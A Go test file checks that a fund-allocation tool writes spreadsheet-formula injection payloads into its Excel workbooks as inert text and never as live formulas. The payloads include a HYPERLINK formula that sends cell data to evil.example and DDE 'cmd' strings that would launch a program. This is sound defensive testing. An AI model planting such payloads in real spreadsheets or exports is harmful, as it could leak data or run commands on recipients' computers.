package main

import (
	"bytes"
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"
)

// Formula injection: every text fundalloc copies from its inputs into a
// workbook must arrive there as text, whatever it starts with. The city
// below puts a formula-looking text into every text the workbooks show;
// the test reads every cell of both workbooks back.

// Texts of the injection city, by what they are.
const (
	injHub     = `=HYPERLINK("http://evil.example/?d="&A1,"Click")`
	injS1      = `+S1`
	injS2      = `=S2*` // in a SUMIFS criterion, neither an operator nor a pattern
	injRoom    = `@R1`
	injDriver  = `=a1*2` // a driver column's header: driver names are lower-cased
	injCharity = `=慈善`   // category names from the configuration, written as is
	injElderly = `+养老`
)

var injectionTexts = struct {
	budget, reconcile []string // texts that must appear verbatim in each workbook
}{
	budget: []string{
		injHub, injS1, injS2, injRoom, // unit codes
		`@SUM(1)`, `=cmd|' /C calc'!A0`, `=1+1`, `-1+1`, // unit names
		`=F1`, `+F2`, `@F3`, // fund ids
		`=cmd|' /C calc'!A1`, `@SUM(2)`, `-2+3`, // providers
		`=HYPERLINK("http://evil.example/","x")`, `-1+2`, `@SUM(A1:A9)`, // descriptions
		`funds/=1+1.csv`, `funds/@book.xlsx`, `=SUM(1)`, // files and a sheet
		injCharity, injElderly, injDriver,
	},
	reconcile: []string{
		injHub, injS1, injS2, injRoom, `@SUM(1)`, `=cmd|' /C calc'!A0`, `=1+1`, `-1+1`,
		`=V1`, `+V2`, `-V3`, `@V4`, `=V9`, // vouchers
		`=DATE(2026,1,1)`, `=X`, `=cat`, `+1+1`, // a date, a unit, a category and an amount as written
		`=HYPERLINK("http://evil.example/","v")`, `@SUM(3)`, `-4+4`, `+desc`, // descriptions
		`ledgers/=oct.csv`, `ledgers/@l.xlsx`, `-Sheet`, // files and a sheet
		injCharity, injElderly,
	},
}

// csvText renders records as CSV.
func csvText(t *testing.T, records ...[]string) string {
	t.Helper()
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	if err := w.WriteAll(records); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// writeInjectionCity writes a city whose every text looks like a formula.
func writeInjectionCity(t *testing.T, dir string) {
	t.Helper()
	files := map[string]string{
		"units.csv": csvText(t,
			[]string{"code", "name", "tier", "parent", "social_workers", "pilot", "grade", "population", injDriver},
			[]string{injHub, "@SUM(1)", "hub", "", "2", "", "good", "0", "0"},
			[]string{injS1, "=cmd|' /C calc'!A0", "station", injHub, "2", "yes", "excellent", "100", "7"},
			[]string{injS2, "=1+1", "station", injHub, "1", "", "unqualified", "50", "3"},
			[]string{injRoom, "-1+1", "room", injS1, "", "", "", "60", "5"}),
		"funds/=1+1.csv": csvText(t,
			[]string{"id", "category", "provider", "description", "amount", "designated_unit"},
			[]string{"=F1", injCharity, "=cmd|' /C calc'!A1", `=HYPERLINK("http://evil.example/","x")`, "10000.00", ""},
			[]string{"+F2", "charity", "@SUM(2)", "-1+2", "500.00", injRoom}),
		"ledgers/=oct.csv": csvText(t,
			[]string{"voucher", "date", "unit", "category", "amount", "description"},
			[]string{"=V1", "2026-03-01", injS1, injCharity, "100.00", `=HYPERLINK("http://evil.example/","v")`},
			[]string{"+V2", "2026-03-02", injS2, injElderly, "50.00", "@SUM(3)"},
			[]string{"-V3", "=DATE(2026,1,1)", injRoom, "charity", "10.00", "-4+4"},
			[]string{"@V4", "2026-04-01", "=X", "=cat", "+1+1", "x"},
			[]string{"=V1", "2026-05-01", injS1, "charity", "1.00", "again"}),
		"fundalloc.yaml": "fiscal_year: 2026\nunits: units.csv\nfund_lines: [funds/*.csv, funds/*.xlsx]\nledgers: [ledgers/*.csv, ledgers/*.xlsx]\n" +
			"categories:\n  - {code: charity, zh: \"" + injCharity + "\", en: \"@charity\"}\n  - {code: elderly_care, zh: \"" + injElderly + "\", en: \"-elderly\"}\n" +
			"stages:\n  hub: {amount: \"100.00\"}\n  pilot: {amount: \"5000.00\", categories: [elderly_care]}\n" +
			"  demand:\n    drivers: {charity: \"" + injDriver + "\", elderly_care: population}\n  rooms: {share: \"0.30\"}\n",
	}
	for name, body := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	book := func(name, sheet string, rows ...[]any) {
		f := excelize.NewFile()
		defer f.Close()
		f.SetSheetName("Sheet1", sheet)
		for i, r := range rows {
			ref, _ := excelize.CoordinatesToCellName(1, i+1)
			f.SetSheetRow(sheet, ref, &r)
		}
		if err := f.SaveAs(filepath.Join(dir, filepath.FromSlash(name))); err != nil {
			t.Fatal(err)
		}
	}
	book("funds/@book.xlsx", "=SUM(1)",
		[]any{"id", "category", "provider", "description", "amount"},
		[]any{"@F3", injElderly, "-2+3", "@SUM(A1:A9)", 2000})
	book("ledgers/@l.xlsx", "-Sheet",
		[]any{"voucher", "date", "unit", "category", "amount", "description"},
		[]any{"=V9", "2026-05-01", injS1, "charity", 5, "+desc"})
}

// ownFormula matches what is left of a formula fundalloc writes once its
// string literals and quoted sheet names are taken out: its functions, cell
// references, operators and numbers, and nothing else.
var ownFormula = regexp.MustCompile(`^(?:SUMIFS|SUM|IF|COUNTIFS|COUNTIF|ROUND|''|""|\$?[A-Z]{1,3}\$?[0-9]+|[-+*/=<>(),:!]|[0-9]+)+$`)

// stripLiterals replaces a formula's "string" literals and 'sheet' names
// with empty ones.
func stripLiterals(f string) string {
	var b strings.Builder
	for i := 0; i < len(f); i++ {
		q := f[i]
		if q != '"' && q != '\'' {
			b.WriteByte(q)
			continue
		}
		// Skip to the closing quote; a doubled quote is one character.
		for i++; i < len(f); i++ {
			if f[i] == q {
				if i+1 < len(f) && f[i+1] == q {
					i++
					continue
				}
				break
			}
		}
		b.WriteByte(q)
		b.WriteByte(q)
	}
	return b.String()
}

// checkWorkbookText opens a workbook and checks every cell: a formula is
// one of fundalloc's own, never input text; a cell holding any of the
// injected texts is a string cell without a formula; and each of want
// appears verbatim in some cell.
func checkWorkbookText(t *testing.T, path string, want []string) {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	all := append(append([]string{}, injectionTexts.budget...), injectionTexts.reconcile...)
	found := map[string]bool{}
	formulas := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c := range row {
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				v := row[c]
				formula, _ := f.GetCellFormula(sheet, ref)
				if formula != "" {
					formulas++
					if !ownFormula.MatchString(stripLiterals(formula)) {
						t.Errorf("%s!%s: formula %q is not one fundalloc writes", sheet, ref, formula)
					}
				}
				if v == "" {
					continue
				}
				found[v] = true
				for _, s := range all {
					if !strings.Contains(v, s) {
						continue
					}
					typ, _ := f.GetCellType(sheet, ref)
					if formula != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
						t.Errorf("%s!%s = %q holds %q but is not a plain string cell (formula %q, type %v)", sheet, ref, v, s, formula, typ)
					}
					break
				}
			}
		}
	}
	for _, s := range want {
		if !found[s] {
			t.Errorf("%s: no cell holds the text %q exactly", filepath.Base(path), s)
		}
	}
	if formulas == 0 {
		t.Errorf("%s: no formulas at all; fundalloc's totals are formulas", filepath.Base(path))
	}
}

func TestFormulaInjectionIsWrittenAsText(t *testing.T) {
	dir := t.TempDir()
	writeInjectionCity(t, dir)
	r := fundalloc(t, dir, nil, "budget")
	if r.code != 0 {
		t.Fatalf("budget: exit %d: %s", r.code, r.stderr)
	}
	// The warnings (a shortfall of the pilot stage names the stations by
	// their codes) are on the Warnings sheet as they were printed.
	want := slices.Clone(injectionTexts.budget)
	for _, line := range strings.Split(r.stderr, "\n") {
		if w, ok := strings.CutPrefix(line, "警告："); ok && strings.Contains(w, injS1) {
			want = append(want, w)
		}
	}
	if len(want) == len(injectionTexts.budget) {
		t.Errorf("expected a warning naming %s, got %q", injS1, r.stderr)
	}
	checkWorkbookText(t, filepath.Join(dir, "out", "budget-2026.xlsx"), want)

	r = fundalloc(t, dir, nil, "reconcile", "--month", "2026-10", "-q")
	if r.code != 0 {
		t.Fatalf("reconcile: exit %d: %s", r.code, r.stderr)
	}
	checkWorkbookText(t, filepath.Join(dir, "out", "reconcile-2026-10.xlsx"), injectionTexts.reconcile)

	// The station totals are SUMIFS over the unit codes: recalculated in a
	// real spreadsheet engine, every formula must give what fundalloc
	// cached, "=S2*" as a code included.
	if testing.Short() {
		return
	}
	if _, err := exec.LookPath("soffice"); err != nil {
		t.Log("soffice not installed: the workbooks are not recalculated")
		return
	}
	for _, name := range []string{"budget-2026.xlsx", "reconcile-2026-10.xlsx"} {
		checkRecalculated(t, filepath.Join(dir, "out", name))
	}
}

// checkRecalculated recalculates a workbook in LibreOffice and compares
// every formula's value with the one fundalloc cached.
func checkRecalculated(t *testing.T, path string) {
	t.Helper()
	before, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer before.Close()
	after, err := excelize.OpenFile(recalculate(t, path))
	if err != nil {
		t.Fatal(err)
	}
	defer after.Close()
	raw := excelize.Options{RawCellValue: true}
	n := 0
	for _, sheet := range before.GetSheetList() {
		rows, err := before.GetRows(sheet, raw)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, cached := range row {
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				f, _ := before.GetCellFormula(sheet, ref)
				if f == "" || cached == "" {
					continue // no formula, or one whose value is left to the spreadsheet
				}
				n++
				got, _ := after.GetCellValue(sheet, ref, raw)
				if got == cached {
					continue // the same text (a — on a zero base) or number
				}
				a, errA := decimal.NewFromString(cached)
				b, errB := decimal.NewFromString(got)
				// Money is exact; a rate (IF(plan=0,"",actual/plan)) is a
				// double, cached to 4 decimals or more.
				tolerance := decimal.Zero
				if strings.HasPrefix(f, "IF(") {
					tolerance = decimal.New(5, -5)
				}
				if errA != nil || errB != nil || a.Sub(b).Abs().GreaterThan(tolerance) {
					t.Errorf("%s %s!%s: fundalloc cached %s, recalculated %s: %s", filepath.Base(path), sheet, ref, cached, got, f)
				}
			}
		}
	}
	if n == 0 {
		t.Errorf("%s: no formula compared", filepath.Base(path))
	}
}

// TestOwnFormulaCheck makes sure the check above would catch input text in
// a formula.
func TestOwnFormulaCheck(t *testing.T) {
	for _, f := range []string{
		`SUMIFS('资金来源'!$F$2:$F$4,'资金来源'!$B$2:$B$4,"=HYPERLINK(""x"")")`, `SUM(C2:C8)`, `D5+E5+F5-C5`,
		`'资金池'!C2`, `ROUND(SUM(F2:L2)-C2,2)`, `IF(B9=0,"",C9/B9)`, `COUNTIF('明细'!$L$2:$L$9,"*OVERSPEND*")`,
	} {
		if !ownFormula.MatchString(stripLiterals(f)) {
			t.Errorf("fundalloc's own formula %q is refused", f)
		}
	}
	for _, f := range []string{`HYPERLINK("http://x","y")`, `cmd|' /C calc'!A0`, `SUM(1)+WEBSERVICE("x")`, `A1&"x"`} {
		if ownFormula.MatchString(stripLiterals(f)) {
			t.Errorf("formula %q passes as fundalloc's own", f)
		}
	}
}
